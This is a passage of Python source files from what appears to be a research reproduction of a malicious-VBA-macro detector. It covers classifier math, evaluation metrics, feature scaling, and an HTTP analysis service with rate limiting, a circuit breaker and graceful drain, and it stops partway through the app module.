        self.means_ = np.empty((n_classes, n_features))
        self.priors_ = np.empty(n_classes)
        pooled = np.zeros((n_features, n_features))
        for k in range(n_classes):
            members = X[encoded == k]
            self.priors_[k] = members.shape[0] / n_samples
            self.means_[k] = members.mean(axis=0)
            centered = members - self.means_[k]
            pooled += centered.T @ centered
        pooled /= max(1, n_samples - n_classes)

        average_eigenvalue = float(np.trace(pooled)) / n_features
        if average_eigenvalue <= 0:
            average_eigenvalue = 1.0
        pooled += self.shrinkage * average_eigenvalue * np.eye(n_features)
        self.covariance_ = pooled
        self._precision = np.linalg.pinv(pooled)

        # Linear discriminant: δ_k(x) = x·w_k + b_k.
        self.coef_ = self.means_ @ self._precision
        self.intercept_ = (
            -0.5 * np.sum(self.means_ @ self._precision * self.means_, axis=1)
            + np.log(self.priors_)
        )
        self.n_features_ = n_features
        return self

    def decision_values(self, X) -> np.ndarray:
        """Per-class linear discriminant scores δ_k(x)."""
        self._check_fitted()
        X = check_array(X)
        if X.shape[1] != self.n_features_:
            raise ValueError(
                f"expected {self.n_features_} features, got {X.shape[1]}"
            )
        return row_stable_matmul(X, self.coef_.T) + self.intercept_

    def predict_proba(self, X) -> np.ndarray:
        scores = self.decision_values(X)
        scores = scores - scores.max(axis=1, keepdims=True)
        exp = np.exp(scores)
        return exp / exp.sum(axis=1, keepdims=True)
