"""Evaluation metrics used in Section V of the paper.

Accuracy, precision, recall, F_β (β = 2 in the paper, emphasizing recall),
confusion matrix, ROC curve and AUC — implemented against their textbook
definitions so Table V, Fig. 6 and Fig. 7 can be regenerated.
"""

from __future__ import annotations

import numpy as np


def _validate_pair(y_true, y_pred) -> tuple[np.ndarray, np.ndarray]:
    y_true = np.asarray(y_true)
    y_pred = np.asarray(y_pred)
    if y_true.shape != y_pred.shape:
        raise ValueError(
            f"shape mismatch: y_true {y_true.shape} vs y_pred {y_pred.shape}"
        )
    if y_true.size == 0:
        raise ValueError("empty label arrays")
    return y_true, y_pred


def accuracy_score(y_true, y_pred) -> float:
    """Fraction of predictions matching the true labels."""
    y_true, y_pred = _validate_pair(y_true, y_pred)
    return float(np.mean(y_true == y_pred))


def confusion_matrix_binary(y_true, y_pred, positive=1) -> tuple[int, int, int, int]:
    """Return ``(tp, fp, fn, tn)`` for a binary problem."""
    y_true, y_pred = _validate_pair(y_true, y_pred)
    true_pos = y_true == positive
    pred_pos = y_pred == positive
    tp = int(np.sum(true_pos & pred_pos))
    fp = int(np.sum(~true_pos & pred_pos))
    fn = int(np.sum(true_pos & ~pred_pos))
    tn = int(np.sum(~true_pos & ~pred_pos))
    return tp, fp, fn, tn


def precision_score(y_true, y_pred, positive=1) -> float:
    """tp / (tp + fp); 0 when nothing was predicted positive."""
    tp, fp, _, _ = confusion_matrix_binary(y_true, y_pred, positive)
    if tp + fp == 0:
        return 0.0
    return tp / (tp + fp)


def recall_score(y_true, y_pred, positive=1) -> float:
    """tp / (tp + fn); 0 when there are no positives."""
    tp, _, fn, _ = confusion_matrix_binary(y_true, y_pred, positive)
    if tp + fn == 0:
        return 0.0
    return tp / (tp + fn)


def fbeta_score(y_true, y_pred, beta: float = 1.0, positive=1) -> float:
    """Weighted harmonic mean of precision and recall.

    β > 1 weighs recall higher; the paper uses β = 2 "to make sure malicious
    VBA macro is not executed on the users' system".
    """
    if beta <= 0:
        raise ValueError("beta must be positive")
    precision = precision_score(y_true, y_pred, positive)
    recall = recall_score(y_true, y_pred, positive)
    if precision == 0.0 and recall == 0.0:
        return 0.0
    beta2 = beta * beta
    return (1 + beta2) * precision * recall / (beta2 * precision + recall)


def f1_score(y_true, y_pred, positive=1) -> float:
    return fbeta_score(y_true, y_pred, beta=1.0, positive=positive)


def f2_score(y_true, y_pred, positive=1) -> float:
    """The paper's headline metric (Fig. 6)."""
    return fbeta_score(y_true, y_pred, beta=2.0, positive=positive)


def roc_curve(y_true, scores, positive=1) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Compute (fpr, tpr, thresholds) sweeping the decision threshold.

    Points are ordered from the most conservative threshold (predict nothing
    positive) to the most liberal; a leading (0, 0) anchor is included, as in
    scikit-learn.
    """
    y_true = np.asarray(y_true)
    scores = np.asarray(scores, dtype=np.float64)
    if y_true.shape != scores.shape:
        raise ValueError("y_true and scores must have identical shape")
    positives = y_true == positive
    n_pos = int(np.sum(positives))
    n_neg = positives.size - n_pos
    if n_pos == 0 or n_neg == 0:
        raise ValueError("ROC needs both classes present")

    order = np.argsort(-scores, kind="stable")
    sorted_scores = scores[order]
    sorted_positive = positives[order].astype(np.float64)

    tps = np.cumsum(sorted_positive)
    fps = np.cumsum(1.0 - sorted_positive)
    # Keep only the last point of each tied-score run.
    distinct = np.r_[np.diff(sorted_scores) != 0, True]
    tps = tps[distinct]
    fps = fps[distinct]
    thresholds = sorted_scores[distinct]

    tpr = np.r_[0.0, tps / n_pos]
    fpr = np.r_[0.0, fps / n_neg]
    thresholds = np.r_[np.inf, thresholds]
    return fpr, tpr, thresholds


def auc(x, y) -> float:
    """Trapezoidal area under a curve given by sorted x and y arrays."""
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    if x.shape != y.shape or x.size < 2:
        raise ValueError("need at least two points with matching shapes")
    if np.any(np.diff(x) < 0):
        order = np.argsort(x)
        x, y = x[order], y[order]
    return float(np.trapezoid(y, x))


def roc_auc_score(y_true, scores, positive=1) -> float:
    """AUC of the ROC curve (Fig. 7 reports 0.950 vs 0.812)."""
    fpr, tpr, _ = roc_curve(y_true, scores, positive)
    return auc(fpr, tpr)


def classification_report(y_true, y_pred, positive=1) -> dict[str, float]:
    """The metric bundle one Table V row reports, plus F₂."""
    return {
        "accuracy": accuracy_score(y_true, y_pred),
        "precision": precision_score(y_true, y_pred, positive),
        "recall": recall_score(y_true, y_pred, positive),
        "f1": f1_score(y_true, y_pred, positive),
        "f2": f2_score(y_true, y_pred, positive),
    }
