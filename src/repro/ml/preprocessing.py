"""Feature preprocessing: standardization and binarization.

The paper scales features before SVM/MLP/LDA training (scikit-learn
convention) and Bernoulli Naive Bayes requires binarized inputs.
"""

from __future__ import annotations

import numpy as np

from repro.ml.base import NotFittedError, check_array


class StandardScaler:
    """Standardize features to zero mean and unit variance.

    Constant features (zero variance) are left centered but unscaled, the
    same behaviour as scikit-learn.
    """

    def __init__(self, with_mean: bool = True, with_std: bool = True) -> None:
        self.with_mean = with_mean
        self.with_std = with_std

    def fit(self, X) -> "StandardScaler":
        X = check_array(X)
        self.mean_ = X.mean(axis=0)
        std = X.std(axis=0)
        std[std == 0.0] = 1.0
        self.scale_ = std
        return self

    def transform(self, X) -> np.ndarray:
        if not hasattr(self, "mean_"):
            raise NotFittedError("StandardScaler must be fitted first")
        X = check_array(X)
        if X.shape[1] != self.mean_.shape[0]:
            raise ValueError(
                f"expected {self.mean_.shape[0]} features, got {X.shape[1]}"
            )
        result = X
        if self.with_mean:
            result = result - self.mean_
        if self.with_std:
            result = result / self.scale_
        return result

    def fit_transform(self, X) -> np.ndarray:
        return self.fit(X).transform(X)

    def inverse_transform(self, X) -> np.ndarray:
        if not hasattr(self, "mean_"):
            raise NotFittedError("StandardScaler must be fitted first")
        X = check_array(X)
        result = X
        if self.with_std:
            result = result * self.scale_
        if self.with_mean:
            result = result + self.mean_
        return result


class Binarizer:
    """Threshold features to {0, 1}: ``x > threshold``."""

    def __init__(self, threshold: float = 0.0) -> None:
        self.threshold = threshold

    def fit(self, X) -> "Binarizer":
        check_array(X)
        return self

    def transform(self, X) -> np.ndarray:
        X = check_array(X)
        return (X > self.threshold).astype(np.float64)

    def fit_transform(self, X) -> np.ndarray:
        return self.fit(X).transform(X)


class MedianBinarizer:
    """Binarize each feature against its training-set median.

    Better suited than a global zero threshold for the paper's V/J feature
    vectors, whose scales differ by orders of magnitude.
    """

    def fit(self, X) -> "MedianBinarizer":
        X = check_array(X)
        self.threshold_ = np.median(X, axis=0)
        return self

    def transform(self, X) -> np.ndarray:
        if not hasattr(self, "threshold_"):
            raise NotFittedError("MedianBinarizer must be fitted first")
        X = check_array(X)
        return (X > self.threshold_).astype(np.float64)

    def fit_transform(self, X) -> np.ndarray:
        return self.fit(X).transform(X)
