"""The request → warm-pool multiplexer behind every serving endpoint.

One :class:`AnalysisGateway` owns one engine, one persistent
:class:`~repro.engine.stream.StreamingPool`, and exactly one dispatch
task driving :meth:`~repro.engine.stream.StreamingPool.astream` in
completion order.  Concurrent HTTP requests enqueue jobs; the dispatch
task feeds them to the pool and resolves each request's future as its
record settles.  This keeps the pool's single-dispatch-loop invariant
while serving any number of clients, and it is where the serving layer's
robustness promises are implemented:

* **deadlines** — each job carries an absolute deadline into the pool
  (degraded ``deadline`` records, admission slots released), and the
  awaiting request additionally gives up at the same deadline
  (:class:`DeadlineExpired` → 408) so a hung worker cannot hold a
  connection past its budget;
* **breaker feeding** — worker restarts observed at settle are the
  breaker's failure signal; clean computed settles are its success
  signal (cache hits and deadline-expired records prove nothing about
  pool health and feed neither);
* **graceful drain** — :meth:`drain` stops admissions, lets in-flight
  work settle within a drain budget, then *quarantines* what remains
  (typed ``drain``-stage quarantine records, never a hang) and shuts the
  warm pool down.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass, field

from repro.engine.records import sha256_hex
from repro.obs.events import serve_event
from repro.obs.metrics import NULL_REGISTRY
from repro.resilience.quarantine import quarantine_record
from repro.serve.breaker import CircuitBreaker


class GatewayClosed(Exception):
    """The gateway is draining or closed; the request was not admitted."""


class DeadlineExpired(Exception):
    """The request's deadline passed before its record settled."""


@dataclass(slots=True)
class _Job:
    seq: int
    source_id: str
    data: bytes
    future: asyncio.Future
    deadline: float | None = None


@dataclass
class DrainReport:
    """What :meth:`AnalysisGateway.drain` accomplished."""

    settled: bool  # in-flight work finished within the drain budget
    abandoned: int = 0  # requests quarantined when the budget ran out
    errors: list[str] = field(default_factory=list)


class AnalysisGateway:
    """Multiplex concurrent requests onto one warm pool's astream loop."""

    def __init__(
        self,
        engine,
        *,
        jobs: int = 2,
        window: int | None = None,
        metrics=None,
        breaker: CircuitBreaker | None = None,
        drain_budget_s: float = 10.0,
    ) -> None:
        self.engine = engine
        self.jobs = max(2, int(jobs))  # the pool path is the serving path
        self.window = window
        self.metrics = metrics if metrics is not None else NULL_REGISTRY
        self.breaker = (
            breaker
            if breaker is not None
            else CircuitBreaker(metrics=self.metrics)
        )
        if self.breaker.on_transition is None:
            self.breaker.on_transition = self._trace_breaker
        self.drain_budget_s = float(drain_budget_s)
        self._queue: asyncio.Queue = asyncio.Queue()
        self._pending: dict[int, _Job] = {}
        self._seq = 0
        self._pool = None
        self._dispatch_task: asyncio.Task | None = None
        self._draining = False
        self._closed = False
        self._warm = False
        self._restarts_seen = 0

    # -- observability -------------------------------------------------

    def _trace_breaker(self, old: str, new: str) -> None:
        metrics = self.metrics
        if metrics.enabled and getattr(metrics, "trace", False):
            metrics.events.append(
                serve_event("gateway", "breaker", f"{old}->{new}")
            )

    @property
    def queue_depth(self) -> int:
        """Unresolved requests (queued + dispatched + settling)."""
        return len(self._pending)

    @property
    def warm(self) -> bool:
        return self._warm and not self._closed

    @property
    def draining(self) -> bool:
        return self._draining

    # -- lifecycle -----------------------------------------------------

    async def start(self) -> None:
        """Spawn and warm the pool, then start the dispatch loop."""
        pool = self.engine._stream_pool(self.jobs, self.window)
        self._pool = pool
        self._restarts_seen = pool.worker_restarts
        await asyncio.to_thread(pool.warm_up, wait_ready=True)
        self._warm = True
        self._dispatch_task = asyncio.create_task(
            self._dispatch(), name="repro-serve-dispatch"
        )

    async def analyze(
        self, source_id: str, data: bytes, *, deadline_s: float | None = None
    ):
        """One document through the pool; returns its DocumentRecord.

        Raises :class:`GatewayClosed` before admission while draining and
        :class:`DeadlineExpired` when ``deadline_s`` passes first (the
        underlying work is bounded by the same deadline inside the pool,
        so its admission slot comes back regardless).
        """
        if self._draining or self._closed:
            raise GatewayClosed("gateway is draining")
        self._seq += 1
        job = _Job(
            self._seq,
            source_id,
            data,
            asyncio.get_running_loop().create_future(),
            time.monotonic() + deadline_s if deadline_s is not None else None,
        )
        self._pending[job.seq] = job
        if self.metrics.enabled:
            gauge = self.metrics.gauge("serve.queue_depth")
            if len(self._pending) > gauge.value:
                gauge.set(len(self._pending))
        self._queue.put_nowait(job)
        if deadline_s is None:
            return await job.future
        try:
            return await asyncio.wait_for(
                asyncio.shield(job.future), deadline_s
            )
        except asyncio.TimeoutError:
            # The pool-side deadline settles the job eventually (releasing
            # its window slot); this request just stops waiting for it.
            if self.metrics.enabled:
                self.metrics.counter("serve.deadline_expired").inc()
            raise DeadlineExpired(
                f"no result within {deadline_s:.3f}s"
            ) from None

    # -- the dispatch loop ---------------------------------------------

    async def _jobs(self):
        """The pool feed: queued jobs as tagged astream entries."""
        engine = self.engine
        while True:
            job = await self._queue.get()
            if job is None:  # drain sentinel: everything before it settles
                return
            if job.future.done():  # request already failed (drain teardown)
                self._pending.pop(job.seq, None)
                continue
            digest = sha256_hex(job.data)
            cached = engine._cache_get(digest)
            if cached is not None:
                yield ("ready", job.seq, engine._cached_copy(cached, job.source_id))
            elif job.deadline is not None:
                yield ("task", job.seq, job.source_id, job.data, digest, job.deadline)
            else:
                yield ("task", job.seq, job.source_id, job.data, digest)

    async def _dispatch(self) -> None:
        pool = self._pool
        try:
            async for result in pool.astream(self._jobs(), ordered=False):
                self._note_pool_health(pool, result)
                self.engine._settle_stream_result(result)
                job = self._pending.pop(result.key, None)
                if job is not None and not job.future.done():
                    job.future.set_result(result.record)
        except Exception as error:
            # The dispatch loop must never die silently: every waiting
            # request gets the failure, and the server goes not-ready
            # (warm=False) so the orchestrator can restart it.
            self._warm = False
            for job in list(self._pending.values()):
                if not job.future.done():
                    job.future.set_exception(GatewayClosed(str(error)))
            self._pending.clear()
            raise

    def _note_pool_health(self, pool, result) -> None:
        """Feed the breaker from what this settle revealed."""
        restarts = pool.worker_restarts
        failures = restarts - self._restarts_seen
        self._restarts_seen = restarts
        for _ in range(failures):
            self.breaker.record_failure()
        if (
            not failures
            and result.computed
            and result.record.quarantine is None
            and not result.record.degraded
        ):
            self.breaker.record_success()

    # -- graceful drain ------------------------------------------------

    async def drain(self, budget_s: float | None = None) -> DrainReport:
        """Stop admitting, settle in-flight up to the budget, quarantine
        the rest, shut the pool down.  Idempotent."""
        if self._closed:
            return DrainReport(settled=True)
        budget = self.drain_budget_s if budget_s is None else float(budget_s)
        self._draining = True
        report = DrainReport(settled=True)
        if self._dispatch_task is not None:
            self._queue.put_nowait(None)  # settles everything queued first
            try:
                await asyncio.wait_for(
                    asyncio.shield(self._dispatch_task), budget
                )
            except asyncio.TimeoutError:
                report.settled = False
                self._dispatch_task.cancel()
                try:
                    await self._dispatch_task
                except (asyncio.CancelledError, Exception):  # noqa: BLE001
                    pass
            except Exception as error:  # noqa: BLE001 - dispatch crash
                report.settled = False
                report.errors.append(f"{type(error).__name__}: {error}")
        for job in list(self._pending.values()):
            if not job.future.done():
                report.abandoned += 1
                job.future.set_result(
                    quarantine_record(
                        job.source_id,
                        sha256_hex(job.data),
                        f"abandoned at graceful drain after {budget:g}s",
                        attempts=0,
                        stage="drain",
                    )
                )
        self._pending.clear()
        self._closed = True
        self._warm = False
        metrics = self.metrics
        if metrics.enabled:
            if report.abandoned:
                metrics.counter("serve.drain_abandoned").inc(report.abandoned)
            if getattr(metrics, "trace", False):
                metrics.events.append(
                    serve_event(
                        "gateway",
                        "drain",
                        f"settled={report.settled} abandoned={report.abandoned}",
                    )
                )
        await asyncio.to_thread(self.engine.close)
        return report
