"""A circuit breaker over worker-pool collapse.

A hostile burst that repeatedly kills workers (poisoned documents, a
resource-exhausted host) makes analysis *worse than useless*: every
admitted request pays a worker respawn and still fails.  The breaker
watches pool failures and, past ``failure_threshold`` of them inside
``window_s``, **opens** — requests are refused with a typed 503 until a
``cooloff_s`` quiet period passes.  Then it **half-opens**: up to
``probe_limit`` concurrent probe requests are admitted, and the first
clean success closes the circuit while another pool failure re-opens it.

States are strings (``closed`` / ``open`` / ``half_open``), published as
the ``serve.breaker_state`` gauge (0 / 2 / 1 — "how broken"), counted on
every transition, and traced as ``serve`` events when tracing is on.
"""

from __future__ import annotations

import time
from collections import deque

from repro.obs.metrics import NULL_REGISTRY

CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half_open"

#: gauge encoding: how broken, monotone in badness.
STATE_GAUGE = {CLOSED: 0, HALF_OPEN: 1, OPEN: 2}


class CircuitBreaker:
    """Failure-rate tripwire with half-open probes.  Not thread-safe —
    drive it from one event loop (the gateway's)."""

    def __init__(
        self,
        *,
        failure_threshold: int = 3,
        window_s: float = 30.0,
        cooloff_s: float = 5.0,
        probe_limit: int = 2,
        clock=time.monotonic,
        metrics=NULL_REGISTRY,
        on_transition=None,
    ) -> None:
        self.failure_threshold = max(1, int(failure_threshold))
        self.window_s = float(window_s)
        self.cooloff_s = float(cooloff_s)
        self.probe_limit = max(1, int(probe_limit))
        self._clock = clock
        self._metrics = metrics
        #: optional ``(old_state, new_state) -> None`` hook (tracing)
        self.on_transition = on_transition
        self.state = CLOSED
        self._failures: deque[float] = deque()
        self._opened_at = 0.0
        self._probes = 0
        self.transitions = 0
        self._publish()

    # -- bookkeeping ---------------------------------------------------

    def _publish(self) -> None:
        if self._metrics.enabled:
            self._metrics.gauge("serve.breaker_state").set(
                STATE_GAUGE[self.state]
            )

    def _transition(self, new_state: str) -> None:
        old = self.state
        if old == new_state:
            return
        self.state = new_state
        self.transitions += 1
        if self._metrics.enabled:
            self._metrics.counter(f"serve.breaker.{new_state}").inc()
        self._publish()
        if self.on_transition is not None:
            self.on_transition(old, new_state)

    # -- the protocol --------------------------------------------------

    def allow(self) -> bool:
        """May one more request be admitted right now?

        In ``half_open`` a True return *takes a probe slot*; the caller
        must report the request's outcome (or :meth:`abandon_probe`).
        """
        if self.state == CLOSED:
            return True
        now = self._clock()
        if self.state == OPEN:
            if now - self._opened_at < self.cooloff_s:
                return False
            self._transition(HALF_OPEN)
            self._probes = 0
        if self._probes >= self.probe_limit:
            return False
        self._probes += 1
        return True

    def record_failure(self) -> None:
        """A pool-collapse signal (worker death) was observed."""
        now = self._clock()
        if self.state == HALF_OPEN:
            # The probe proved the pool is still collapsing: re-open and
            # restart the cooloff from now.
            self._opened_at = now
            self._failures.clear()
            self._transition(OPEN)
            return
        if self.state == OPEN:
            self._opened_at = now  # failures during open extend the cooloff
            return
        self._failures.append(now)
        while self._failures and now - self._failures[0] > self.window_s:
            self._failures.popleft()
        if len(self._failures) >= self.failure_threshold:
            self._opened_at = now
            self._failures.clear()
            self._transition(OPEN)

    def record_success(self) -> None:
        """An admitted request completed without pool damage."""
        if self.state == HALF_OPEN:
            self._probes = max(0, self._probes - 1)
            self._transition(CLOSED)
            self._failures.clear()

    def abandon_probe(self) -> None:
        """A half-open probe ended without a clean verdict (e.g. the
        client's deadline expired first): free its slot, decide nothing."""
        if self.state == HALF_OPEN:
            self._probes = max(0, self._probes - 1)
