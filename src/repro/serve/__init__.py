"""``repro serve`` — the asyncio HTTP front-end over the warm pool.

Layers, bottom-up (each importable and testable on its own):

:mod:`repro.serve.http`
    stdlib asyncio HTTP/1.1 shell: bounded reads, typed JSON errors,
    chunked NDJSON streaming, one request per connection.
:mod:`repro.serve.admission`
    per-client token buckets + admission windows and queue-depth load
    shedding; refusals are typed :class:`~repro.serve.admission.Rejection`
    data.
:mod:`repro.serve.breaker`
    circuit breaker over worker-pool collapse with half-open probes.
:mod:`repro.serve.gateway`
    the request multiplexer feeding one warm pool's ``astream`` loop;
    deadlines, breaker feeding, graceful drain live here.
:mod:`repro.serve.app`
    the routed application (``/scan`` ``/lint`` ``/extract`` +
    ``/healthz`` ``/readyz`` ``/metrics``) and the SIGTERM lifecycle.
"""

from repro.serve.admission import AdmissionController, Rejection, TokenBucket
from repro.serve.app import ServeApp, ServeConfig, render_record, serve_forever
from repro.serve.breaker import CLOSED, HALF_OPEN, OPEN, CircuitBreaker
from repro.serve.gateway import (
    AnalysisGateway,
    DeadlineExpired,
    DrainReport,
    GatewayClosed,
)
from repro.serve.http import (
    HttpError,
    HttpServer,
    Request,
    Response,
    StreamingResponse,
)

__all__ = [
    "AdmissionController",
    "AnalysisGateway",
    "CircuitBreaker",
    "CLOSED",
    "DeadlineExpired",
    "DrainReport",
    "GatewayClosed",
    "HALF_OPEN",
    "HttpError",
    "HttpServer",
    "OPEN",
    "Rejection",
    "Request",
    "Response",
    "ServeApp",
    "ServeConfig",
    "StreamingResponse",
    "TokenBucket",
    "render_record",
    "serve_forever",
]
