"""Admission control: decide *before any work* whether a request runs.

Three independent guards, cheapest first, each with its own typed
rejection so clients (and the smoke harness) can tell deliberate
overload handling from failure:

* **token-bucket rate limit** per client — sustained request *rate* is
  capped at ``rate_per_s`` with a burst allowance, and a limited client
  learns exactly when a token frees (``Retry-After``);
* **per-client admission window** — one client may hold at most
  ``per_client_window`` requests in flight, so a single aggressive
  client cannot monopolize the queue ahead of everyone else;
* **queue-depth load shedding** — when the gateway's unresolved-request
  count reaches ``max_queue`` (the *shed line*), new work is refused
  with 503 rather than queued into latency collapse.

Rejections are data, not exceptions: the HTTP layer maps a
:class:`Rejection` to its status + ``Retry-After`` header, and every
decision lands in the ``serve.*`` counters.
"""

from __future__ import annotations

import time
from dataclasses import dataclass

from repro.obs.metrics import NULL_REGISTRY

#: Clients tracked before the oldest-idle one is evicted (memory bound).
DEFAULT_MAX_CLIENTS = 4096


@dataclass(frozen=True, slots=True)
class Rejection:
    """One typed admission refusal."""

    status: int  # 429 (client-scoped) or 503 (server-scoped)
    code: str
    message: str
    retry_after: float


class TokenBucket:
    """The classic leaky token bucket: ``rate`` tokens/s, ``burst`` deep."""

    __slots__ = ("rate", "burst", "tokens", "updated_at")

    def __init__(self, rate: float, burst: float, now: float) -> None:
        self.rate = rate
        self.burst = burst
        self.tokens = burst
        self.updated_at = now

    def take(self, now: float) -> float:
        """Take one token.  0.0 = granted; else seconds until one frees."""
        elapsed = max(0.0, now - self.updated_at)
        self.tokens = min(self.burst, self.tokens + elapsed * self.rate)
        self.updated_at = now
        if self.tokens >= 1.0:
            self.tokens -= 1.0
            return 0.0
        return (1.0 - self.tokens) / self.rate


class _Client:
    __slots__ = ("bucket", "in_flight", "last_seen")

    def __init__(self, bucket: TokenBucket, now: float) -> None:
        self.bucket = bucket
        self.in_flight = 0
        self.last_seen = now


class AdmissionController:
    """Per-client windows + rate limits + queue-depth shedding."""

    def __init__(
        self,
        *,
        max_queue: int = 64,
        per_client_window: int = 8,
        rate_per_s: float = 50.0,
        burst: float = 100.0,
        max_clients: int = DEFAULT_MAX_CLIENTS,
        clock=time.monotonic,
        metrics=NULL_REGISTRY,
    ) -> None:
        self.max_queue = max(1, int(max_queue))
        self.per_client_window = max(1, int(per_client_window))
        self.rate_per_s = float(rate_per_s)
        self.burst = float(burst)
        self.max_clients = max(1, int(max_clients))
        self._clock = clock
        self._metrics = metrics
        self._clients: dict[str, _Client] = {}

    @property
    def shed_line(self) -> int:
        """The queue depth at and beyond which new work is shed."""
        return self.max_queue

    def _client(self, client: str, now: float) -> _Client:
        state = self._clients.get(client)
        if state is None:
            if len(self._clients) >= self.max_clients:
                idle = min(self._clients, key=lambda c: self._clients[c].last_seen)
                # Never evict a client with requests still in flight — its
                # release() would corrupt a re-created entry's accounting.
                if self._clients[idle].in_flight == 0:
                    del self._clients[idle]
            state = _Client(TokenBucket(self.rate_per_s, self.burst, now), now)
            self._clients[client] = state
        state.last_seen = now
        return state

    def admit(self, client: str, queue_depth: int) -> Rejection | None:
        """Admit one request, or explain the refusal.

        On admission the client's in-flight count is taken; the caller
        *must* pair every successful admit with a :meth:`release`.
        """
        now = self._clock()
        metrics = self._metrics
        state = self._client(client, now)
        wait = state.bucket.take(now)
        if wait > 0.0:
            if metrics.enabled:
                metrics.counter("serve.rate_limited").inc()
            return Rejection(
                429,
                "rate_limited",
                f"client exceeds {self.rate_per_s:g} requests/s",
                wait,
            )
        if state.in_flight >= self.per_client_window:
            if metrics.enabled:
                metrics.counter("serve.client_saturated").inc()
            return Rejection(
                429,
                "client_saturated",
                f"client already has {state.in_flight} requests in flight "
                f"(window {self.per_client_window})",
                0.5,
            )
        if queue_depth >= self.max_queue:
            if metrics.enabled:
                metrics.counter("serve.shed").inc()
            return Rejection(
                503,
                "queue_full",
                f"queue depth {queue_depth} at shed line {self.max_queue}",
                1.0,
            )
        state.in_flight += 1
        if metrics.enabled:
            metrics.counter("serve.admitted").inc()
        return None

    def take_member(self, client: str) -> bool:
        """Take one window slot for an archive member, if one is free.

        Archive expansion converts one admitted envelope into many member
        analyses; each member re-enters the *window* individually so a
        500-member zip holds at most ``per_client_window`` queue slots at
        a time instead of flooding the gateway and starving everyone
        else.  Window-only on purpose: the envelope already paid the rate
        limit and queue-depth checks at admission, and members are not
        new requests — so a full window means "not yet", never a typed
        rejection.  Pair every granted take with a :meth:`release`.
        """
        now = self._clock()
        state = self._client(client, now)
        if state.in_flight >= self.per_client_window:
            return False
        state.in_flight += 1
        if self._metrics.enabled:
            self._metrics.counter("serve.member_admitted").inc()
        return True

    def release(self, client: str) -> None:
        """Return one admitted request's per-client window slot."""
        state = self._clients.get(client)
        if state is not None and state.in_flight > 0:
            state.in_flight -= 1
