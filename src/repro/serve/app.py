"""The serving application: routes, overload policy, and lifecycle.

:class:`ServeApp` wires the layers together into one process:

``HttpServer`` → :meth:`ServeApp.handle` → admission control → circuit
breaker → :class:`~repro.serve.gateway.AnalysisGateway` → warm pool.

The request path is a strict gauntlet — cheapest refusal first, and a
request that clears every gate is *guaranteed* a typed terminal
response:

1. **draining?** → 503 ``draining`` (SIGTERM already arrived);
2. **admission** (rate limit / client window / queue depth) → typed 429
   or 503 with ``Retry-After``;
3. **circuit breaker** → 503 ``breaker_open`` while the worker pool is
   known to be collapsing (half-open probes pass through);
4. **deadline** → the request's budget rides into the pool, and expiry
   is a 408 whose admission-window slot is provably released;
5. **analysis** → one NDJSON line per document (archives expand to one
   line per member, flushed in completion order).

``/healthz`` is liveness (the process answers), ``/readyz`` is the
serving contract: pool warm **∧** not draining **∧** breaker closed
**∧** queue below the shed line.  ``/metrics`` serves the Prometheus
exposition from the same process and registry the gateway writes to.
"""

from __future__ import annotations

import asyncio
import json
import signal
import time
from dataclasses import dataclass

from repro.engine.records import sha256_hex
from repro.obs.events import serve_event
from repro.obs.export import CONTENT_TYPE, render_prometheus
from repro.obs.metrics import NULL_REGISTRY
from repro.resilience.archive import (
    ArchiveBombError,
    expand_archive,
    is_plain_archive,
    is_tar_archive,
)
from repro.serve.admission import AdmissionController
from repro.serve.breaker import HALF_OPEN, CircuitBreaker
from repro.serve.gateway import AnalysisGateway, DeadlineExpired, GatewayClosed
from repro.serve.http import (
    DEFAULT_MAX_BODY_BYTES,
    KEEPALIVE_IDLE_S,
    MAX_REQUESTS_PER_CONNECTION,
    HttpError,
    HttpServer,
    Request,
    Response,
    StreamingResponse,
    json_response,
)

ENDPOINTS = ("scan", "lint", "extract")

#: Refusal codes that are deliberate overload policy, not failures —
#: they stay out of the ``serve.errors.*`` SLO numerator.
_POLICY_CODES = frozenset(
    {
        "rate_limited",
        "client_saturated",
        "queue_full",
        "breaker_open",
        "draining",
        "deadline_expired",
    }
)

#: Refusals decided before admission.  They never enter the
#: ``serve.latency.*`` histograms: the SLO grades *admitted* requests,
#: and a sub-millisecond 429/503 would dilute the p95 it is meant to
#: protect (a 408, by contrast, was admitted and held capacity for its
#: whole deadline — that sample belongs in the histogram).
_PRE_ADMISSION_CODES = frozenset(
    {
        "draining",
        "empty_body",
        "bad_deadline",
        "rate_limited",
        "client_saturated",
        "queue_full",
        "breaker_open",
    }
)


@dataclass(slots=True)
class ServeConfig:
    """Every serving knob in one place (CLI flags map 1:1)."""

    host: str = "127.0.0.1"
    port: int = 0
    jobs: int = 2
    window: int | None = None
    max_queue: int = 64
    per_client_window: int = 8
    rate_per_s: float = 50.0
    burst: float = 100.0
    default_deadline_s: float | None = 30.0
    max_deadline_s: float = 120.0
    drain_budget_s: float = 10.0
    max_body_bytes: int = DEFAULT_MAX_BODY_BYTES
    read_timeout_s: float = 30.0
    keepalive_idle_s: float = KEEPALIVE_IDLE_S
    max_requests_per_connection: int = MAX_REQUESTS_PER_CONNECTION
    breaker_threshold: int = 3
    breaker_window_s: float = 30.0
    breaker_cooloff_s: float = 5.0


def render_record(endpoint: str, record) -> dict:
    """Project one DocumentRecord into the endpoint's response shape."""
    payload = record.to_dict()
    if endpoint == "lint":
        for macro in payload["macros"]:
            for key in ("score", "verdict"):
                macro.pop(key, None)
    elif endpoint == "extract":
        for macro in payload["macros"]:
            for key in (
                "score",
                "verdict",
                "findings",
                "recovered_strings",
                "recovery",
            ):
                macro.pop(key, None)
    return payload


class ServeApp:
    """One engine, one gateway, one HTTP front — the ``repro serve`` app."""

    def __init__(
        self,
        engine,
        config: ServeConfig | None = None,
        *,
        metrics=None,
        window=None,
    ) -> None:
        self.config = config or ServeConfig()
        self.engine = engine
        self.metrics = (
            metrics
            if metrics is not None
            else (engine.metrics if engine.metrics.enabled else NULL_REGISTRY)
        )
        #: optional SlidingWindow feeding the /metrics window gauges
        self.obs_window = window
        self.breaker = CircuitBreaker(
            failure_threshold=self.config.breaker_threshold,
            window_s=self.config.breaker_window_s,
            cooloff_s=self.config.breaker_cooloff_s,
            metrics=self.metrics,
        )
        self.gateway = AnalysisGateway(
            engine,
            jobs=self.config.jobs,
            window=self.config.window,
            metrics=self.metrics,
            breaker=self.breaker,
            drain_budget_s=self.config.drain_budget_s,
        )
        self.admission = AdmissionController(
            max_queue=self.config.max_queue,
